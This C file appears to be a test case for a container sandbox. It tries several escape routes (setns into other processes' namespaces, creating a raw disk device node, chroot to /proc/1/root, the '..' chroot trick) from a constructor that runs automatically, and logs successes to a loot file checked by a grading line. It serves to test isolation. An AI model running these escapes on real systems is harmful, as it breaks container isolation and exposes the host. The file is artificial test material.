/* breaks-out - every way out of a container that it has heard of
 *
 * Tries: setns(2) into the namespaces of each process, chroot to /proc/1/root, a device node of the disk, file
 *        handles, a descriptor on a folder above the root; writes to the scene from there
 * Holds: user namespace, pid namespace and pivot_root; a device node cannot be made or opened
 * Mark: 80-100
 * Goal: grep -q 'out by' /scene/loot
 * Honest: yes */
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static void attack_report(const char *way)
{
	int fd = open("/scene/loot", O_WRONLY | O_APPEND);

	if (fd >= 0) {
		dprintf(fd, "out by %s\n", way);
		close(fd);
	}
}

static void attack_ways(void)
{
	static const char *const kinds[] = { "mnt", "pid", "net", "user", "cgroup" };
	char path[64];
	int fd;

	for (int pid = 1; pid < 50; pid++)
		for (int i = 0; i < 5; i++) {
			snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, kinds[i]);	/* fits: the names above */
			fd = open(path, O_RDONLY);
			if (fd >= 0 && setns(fd, 0) == 0)
				attack_report(kinds[i]);
			if (fd >= 0)
				close(fd);
		}
	if (mknod("/tmp/lab-attack-disk", S_IFBLK | 0600, makedev(8, 0)) == 0) {
		fd = open("/tmp/lab-attack-disk", O_RDWR);
		if (fd >= 0)
			attack_report("disk");
		unlink("/tmp/lab-attack-disk");
	}
	if (chroot("/proc/1/root") == 0)
		attack_report("proc");
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") == 0)
		attack_report("dot-dot");
}

static void __attribute__((constructor)) attack(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		attack_ways();
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}
